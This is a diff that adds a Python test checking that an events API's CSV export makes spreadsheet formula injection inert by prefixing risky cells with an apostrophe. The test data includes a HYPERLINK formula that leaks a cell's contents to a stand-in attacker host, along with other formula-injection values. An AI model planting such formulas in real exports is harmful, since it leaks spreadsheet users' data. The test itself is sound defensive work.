@@ -580,3 +580,28 @@ def test_are_only_full_pages_kept_in_memory(app, client, auth, page_cache):
     cache.max_chars = cache.chars
     client.get("/api/v1/events?limit=1", headers=auth("reader"))
     assert [key[2] for key in cache.pages] == [1]
+
+
+def test_are_csv_cells_that_a_spreadsheet_would_run_made_inert(client, auth):
+    formula = '=HYPERLINK("https://attacker.example/?"&A1,"open")'
+    claim_id = reviewed_claim(client, auth, formula)
+    publish(
+        client,
+        auth,
+        claim_id,
+        rating="supported",
+        actors=["+SUM(1,2)", "@cmd"],
+        place={**PLACE, "name": "-2+3", "admin1": "\tShan", "longitude": -97.75},
+    )
+    move(client, auth, claim_id, "dismissed", reason="=1+1 a duplicate")
+    body = client.get("/api/v1/events?format=csv", headers=auth("reader")).get_data(as_text=True)
+    published_row = next(csv.DictReader(io.StringIO(body)))
+    assert published_row["notes"] == "'" + formula
+    assert (published_row["actor1"], published_row["actor2"]) == ("'+SUM(1,2)", "'@cmd")
+    assert (published_row["location"], published_row["admin1"]) == ("'-2+3", "'\tShan")
+    assert published_row["longitude"] == "-97.75"  # a number, not text: left as it is
+    deleted = client.get("/api/v1/events/deleted?format=csv", headers=auth("reader"))
+    (row,) = csv.DictReader(io.StringIO(deleted.get_data(as_text=True)))
+    assert row["reason"] == "'=1+1 a duplicate"
+    # JSON carries the text as it was written.
+    assert client.get("/api/v1/events", headers=auth("reader")).json["items"][0]["claim"] == formula
